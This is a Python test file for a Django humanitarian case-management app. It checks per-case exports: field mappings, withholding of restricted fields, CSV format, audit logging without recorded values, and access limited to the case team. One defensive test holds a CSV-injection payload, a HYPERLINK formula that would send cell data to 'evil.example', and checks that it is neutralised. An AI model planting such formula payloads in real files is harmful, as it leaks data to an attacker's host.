"""The export of one case: it matches its mapping exactly (every target, each transform), withholds
what the user may not read, has the CSV shape, is audited without values, and is for the case
team only (404 for another organisation, a mentor, a provider), on the page and in the API."""

from __future__ import annotations

import csv
import io
import json
from collections import Counter
from collections.abc import Iterator
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.test import Client
from django.urls import reverse
from django.utils import translation

from sutura.access.cases import works_on
from sutura.accounts.roles import Role
from sutura.audit.models import Action, AuditEntry
from sutura.caseexport import exports, services
from sutura.caseexport.forms import ExportForm
from sutura.caseexport.keys_doc import BEGIN, END
from sutura.caseexport.models import ExportMapping
from sutura.cases.models import PlanDecision
from sutura.core import case_export
from sutura.referrals.models import Referral, ReferralStatus
from tests.audit_words import said
from tests.worlds import World

pytestmark = pytest.mark.django_db

DEFAULT = "sutura-central-case"
OTHER_APPS = {"children", "tracing", "trafficking", "returns"}


def _client(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _default() -> ExportMapping:
    return ExportMapping.objects.get(organisation=None, code=DEFAULT, version=1)


def _manager(world: World) -> Any:
    return world.a.users[Role.CASE_MANAGER]


def test_the_default_export_of_a_case_matches_its_mapping_exactly(world: World) -> None:
    case, manager = world.a.case, _manager(world)
    case.refresh_from_db()
    result = exports.build(manager, case, _default())

    approval = PlanDecision.objects.filter(
        plan=world.a.plan, decision__in=["approved", "auto"]
    ).first()
    referrals = Counter(Referral.objects.filter(case=case).values_list("status", flat=True))
    ours = {
        "source_system": "SUTURA",
        "case_number": case.number,
        "case_type": "return_reintegration",
        "case_status": case.status,
        "case_opened_on": "2026-01-10",
        "case_closed_on": None,
        "case_closure_reason": None,
        "case_priority": case.priority,
        "case_risk_level": case.risk_level,
        "case_vulnerabilities": list(case.flags),
        "case_worker_name": manager.get_full_name(),
        "person_id": str(world.a.person.pk),
        "given_names": "Aminata",
        "family_name": "Ndiaye",
        "sex": "F",
        "date_of_birth": "1996-03-14",
        "date_of_birth_estimated": False,
        "nationality": "SN",
        "phones": "+221771234567",
        "current_location_pcode": None,
        "current_location_name": None,
        "languages": "",
        "screening_date": "2026-01-12",
        "screening_vulnerabilities": [],
        "plan_status": world.a.plan.status,
        "plan_approved_on": approval.created_at.date().isoformat() if approval else None,
        "plan_total_xof": 150000,
        "plan_total_xaf": 0,
        "plan_total_eur": 0,
        "assistance_deliveries": 1,
        "assistance_delivered_xof": 50000,
        "assistance_delivered_xaf": 0,
        "assistance_delivered_eur": 0,
        "last_follow_up_on": "2026-01-26",
        "next_follow_up_due": "2026-02-26",
        "referrals_total": sum(referrals.values()),
        "referrals_in_progress": referrals[ReferralStatus.IN_PROGRESS],
        "referrals_completed": referrals[ReferralStatus.COMPLETED],
        "referrals_declined": referrals[ReferralStatus.DECLINED],
    }
    registered = case_export.fields()
    entries = _default().entries
    not_provided = [
        e["target"] for e in entries if e.get("source", "case.number") not in registered
    ]
    # Every target, in the mapping's order: ours as read, the special procedures' (apps that
    # may not be installed yet) empty and listed as unavailable until they are.
    assert list(result.fields) == _default().targets
    assert {t: v for t, v in result.fields.items() if t in ours} == ours
    assert set(result.fields) - set(ours) == {
        e["target"] for e in entries if e.get("source", "").split(".")[0] in OTHER_APPS
    }
    assert result.unavailable == not_provided
    assert all(result.fields[t] is None for t in not_provided)
    assert result.withheld == []
    assert sum(referrals.values()) > 0  # the world's case has referrals in several states


def test_an_organisations_mapping_with_every_transform(world: World) -> None:
    mapping = ExportMapping(
        organisation=world.a.organisation,
        name="Base centrale",
        code="central-a",
        fields=[
            {"target": "office", "transform": {"kind": "constant", "value": "DKR"}},
            {"target": "dossier", "source": "case.number", "required": True},
            {
                "target": "ouvert_le",
                "source": "case.opened_on",
                "transform": {"kind": "date_format", "format": "%d/%m/%Y"},
            },
            {
                "target": "genre",
                "source": "person.sex",
                "transform": {"kind": "code_map", "map": {"female": "2", "male": "1"}},
            },
            {
                "target": "tel",
                "source": "person.phones",
                "transform": {"kind": "join", "separator": "/"},
            },
            {"target": "vuln", "source": "screening.categories"},
            {"target": "plus_tard", "source": "returns.not_yet_there"},
        ],
    )
    mapping.full_clean()
    mapping.save()
    result = exports.build(_manager(world), world.a.case, mapping)
    assert result.as_dict()["fields"] == {
        "office": "DKR",
        "dossier": world.a.case.number,
        "ouvert_le": "10/01/2026",
        "genre": "2",
        "tel": "+221771234567",
        "vuln": [],
        "plus_tard": None,
    }
    assert result.unavailable == ["plus_tard"]
    assert result.as_dict()["mapping"] == {"code": "central-a", "version": 1, "format_version": 1}


# --- a group that some of the team may not read -------------------------------------------------


def restricted_values(user: Any, case: Any) -> dict[str, Any]:
    """A test group: its `secret` is for programme managers only (as a restricted section)."""
    if not works_on(user, case):
        return {}
    found = {"testrestricted.open": "visible"}
    if Role.PROGRAMME_MANAGER in user.roles:
        found["testrestricted.secret"] = "confidentiel"
    return found


@pytest.fixture
def restricted_group() -> Iterator[None]:
    case_export.add(
        case_export.FieldGroup(
            name="testrestricted",
            fields=(
                case_export.ExportField("testrestricted.open", "Open", "text"),
                case_export.ExportField("testrestricted.secret", "Secret", "text"),
            ),
            values=f"{__name__}.restricted_values",
        )
    )
    yield
    case_export._GROUPS.pop("testrestricted")


def test_a_field_the_user_may_not_read_is_withheld_never_guessed(
    world: World, restricted_group: None
) -> None:
    mapping = ExportMapping.objects.create(
        name="Restreinte",
        code="restricted",
        fields=[
            {"target": "number", "source": "case.number", "required": True},
            {"target": "open", "source": "testrestricted.open", "required": True},
            {"target": "secret", "source": "testrestricted.secret", "required": True},
        ],
    )
    manager, supervisor = _manager(world), world.a.users[Role.PROGRAMME_MANAGER]
    as_manager = exports.build(manager, world.a.case, mapping).as_dict()
    assert as_manager["fields"] == {
        "number": world.a.case.number,
        "open": "visible",
        "secret": None,
    }
    assert as_manager["withheld"] == ["secret"]
    as_supervisor = exports.build(supervisor, world.a.case, mapping).as_dict()
    assert as_supervisor["fields"]["secret"] == "confidentiel"
    assert as_supervisor["withheld"] == []


def test_someone_off_the_team_gets_every_field_withheld_from_the_groups(world: World) -> None:
    """Defence in depth: each group fails closed for a user who does not work on the case."""
    mentor = world.a.users[Role.COMMUNITY_MENTOR]
    for group in case_export.groups():
        assert group.read(mentor, world.a.case) == {}
        assert group.read(world.b.users[Role.PROGRAMME_MANAGER], world.a.case) == {}


def test_a_required_source_no_longer_provided_refuses_the_export(world: World) -> None:
    mapping = ExportMapping.objects.create(
        name="Ancienne",
        code="old",
        fields=[{"target": "x", "source": "gone.key", "required": True}],
    )
    with pytest.raises(ValidationError, match=r"gone\.key"):
        exports.build(_manager(world), world.a.case, mapping)
    response = _client(_manager(world)).get(
        reverse("api-case-export-detail", args=[world.a.case.pk]), {"mapping": "old"}
    )
    assert response.status_code == 400
    assert "gone.key" in response.json()["error"]["fields"]["mapping"][0]


# --- files, pages, API ---------------------------------------------------------------------------


def test_csv_has_a_header_row_of_targets_and_one_row_with_a_bom(world: World) -> None:
    result = exports.build(_manager(world), world.a.case, _default())
    content = result.as_csv()
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert len(rows) == 2
    assert rows[0] == _default().targets
    values = dict(zip(rows[0], rows[1], strict=True))
    assert values["case_number"] == world.a.case.number
    assert values["sex"] == "F"
    assert values["date_of_birth_estimated"] == "false"
    assert values["case_closed_on"] == ""


def test_the_page_download_is_audited_without_values_and_marks_the_mapping_used(
    world: World,
) -> None:
    manager, case = _manager(world), world.a.case
    client = _client(manager)
    page = client.get(reverse("caseexport:case", args=[case.pk]))
    assert page.status_code == 200
    assert b"sutura-central-case" in page.content
    url = reverse("caseexport:download", args=[case.pk])
    first = client.get(url, {"mapping": DEFAULT, "format": "json"})
    assert first.status_code == 200
    assert first["Content-Disposition"] == (
        f'attachment; filename="{case.number}-{DEFAULT}-v1.json"'
    )
    entry = AuditEntry.objects.filter(actor=manager, action=Action.EXPORT).latest("id")
    assert entry.object_id == str(case.pk)
    assert f"mapping {DEFAULT} v1" in said(entry) and "json" in said(entry)
    for value in ("Aminata", "Ndiaye", "221771234567", "1996"):
        assert value not in said(entry) and value not in json.dumps(entry.changes)
    assert _default().first_used_at is not None


def test_asking_twice_gives_the_same_record_and_changes_nothing_else(world: World) -> None:
    client, case = _client(_manager(world)), world.a.case
    url = reverse("api-case-export-detail", args=[case.pk])
    first = client.get(url, {"mapping": DEFAULT})
    used_at = _default().first_used_at
    mappings = ExportMapping.objects.count()
    second = client.get(url, {"mapping": DEFAULT})
    assert first.status_code == second.status_code == 200
    one, two = first.json(), second.json()
    one.pop("exported_at"), two.pop("exported_at")
    assert one == two
    assert _default().first_used_at == used_at
    assert ExportMapping.objects.count() == mappings
    assert one["case"] == case.number
    assert set(one) == {"mapping", "case", "fields", "withheld", "unavailable"}


def test_the_api_gives_csv_and_refuses_unknown_formats_and_mappings(world: World) -> None:
    client = _client(world.a.users[Role.PROGRAMME_MANAGER])
    url = reverse("api-case-export-detail", args=[world.a.case.pk])
    got = client.get(url, {"mapping": DEFAULT, "format": "csv"})
    assert got.status_code == 200
    assert got["Content-Type"].startswith("text/csv")
    assert got.content.startswith(b"\xef\xbb\xbf")
    assert client.get(url, {"format": "xml"}).status_code == 400
    assert client.get(url, {"format": "xml"}).json()["error"]["code"] == "invalid"
    assert client.get(url, {"mapping": "no-such-mapping"}).status_code == 404
    # Another organisation's mapping is not offered.
    ExportMapping.objects.create(
        organisation=world.b.organisation,
        name="B",
        code="only-b",
        fields=[{"target": "n", "source": "case.number"}],
    )
    assert client.get(url, {"mapping": "only-b"}).status_code == 404


@pytest.mark.parametrize(
    "who",
    [
        "b-case_manager",
        "b-programme_manager",
        "a-community_mentor",
        "a-provider_agent",
        "a-me_officer",
        "a-colleague",
        "a-mhpss_focal_point",
    ],
)
def test_only_the_case_team_exports(world: World, who: str) -> None:
    user = next(u for u in world.users() if u.username == who)
    case = world.a.case
    client = _client(user)
    # The world holds exports of its own (the exports app's list exports, audited as exports).
    exports_before = AuditEntry.objects.filter(actor=user, action=Action.EXPORT).count()
    for url in (
        reverse("caseexport:case", args=[case.pk]),
        reverse("caseexport:download", args=[case.pk]) + f"?mapping={DEFAULT}&format=csv",
        reverse("api-case-export-detail", args=[case.pk]) + f"?mapping={DEFAULT}",
    ):
        assert client.get(url).status_code == 404, url
    assert AuditEntry.objects.filter(actor=user, action=Action.EXPORT).count() == exports_before


def test_the_service_refuses_someone_off_the_team(world: World) -> None:
    from django.core.exceptions import PermissionDenied

    with pytest.raises(PermissionDenied):
        services.export_case(
            actor=world.a.users[Role.COMMUNITY_MENTOR],
            case=world.a.case,
            mapping=_default(),
            fmt="json",
        )


def test_the_case_page_offers_the_export_to_its_team(world: World) -> None:
    case = world.a.case
    with translation.override("en"):
        page = _client(_manager(world)).get(reverse("cases:detail", args=[case.pk]))
    assert page.status_code == 200
    assert reverse("caseexport:download", args=[case.pk]).encode() in page.content
    minimal = _client(world.a.users[Role.COMMUNITY_MENTOR]).get(
        reverse("cases:detail", args=[case.pk])
    )
    assert reverse("caseexport:download", args=[case.pk]).encode() not in minimal.content


def test_the_document_lists_every_registered_key() -> None:
    """docs/case-export.md's table is `manage.py export_fields --write` (rerun it when an app
    registers new fields)."""
    from django.conf import settings

    document = (settings.BASE_DIR / "docs" / "case-export.md").read_text("utf-8")
    table = document[document.index(BEGIN) : document.index(END)]
    missing = [key for key in case_export.fields() if f"`{key}`" not in table]
    assert not missing, f"run `manage.py export_fields --write`: missing {missing}"


def test_csv_neutralises_values_and_targets_that_would_run_as_formulas() -> None:
    """CSV injection: a value (or a list item, or a target) starting with =, +, -, @ is kept as
    text in the file (a leading quote), never run as a formula by the spreadsheet program."""
    result = exports.CaseExport(
        mapping=ExportMapping(code="x", version=1),
        case_number="C-1",
        exported_at="2026-01-01T00:00:00",
        fields={
            "=name": '=HYPERLINK("http://evil.example/?"&A1,"x")',
            "phone": "+221771234567",
            "note": "-2+3",
            "who": "@SUM(1)",
            "list": ["ok", "=1+1"],
            "plain": "Aminata",
        },
    )
    rows = list(csv.reader(io.StringIO(result.as_csv().decode("utf-8-sig"))))
    assert rows[0][0] == "'=name"
    values = dict(zip(rows[0], rows[1], strict=True))
    assert values["'=name"].startswith("'=HYPERLINK")
    assert values["phone"] == "'+221771234567"
    assert values["note"] == "'-2+3"
    assert values["who"] == "'@SUM(1)"
    assert values["list"] == "ok; '=1+1"
    assert values["plain"] == "Aminata"


@pytest.mark.parametrize(
    ("language", "name"),
    [("fr", "Fiche centrale de cas Sutura v1"), ("en", "Sutura central case record v1")],
)
def test_the_platforms_mapping_is_named_in_the_readers_language(language: str, name: str) -> None:
    with translation.override(language):
        field: Any = ExportForm(mappings=[_default()]).fields["mapping"]
        assert dict(field.choices) == {DEFAULT: name}
        assert str(_default()) == f"{name} ({DEFAULT} v1)"
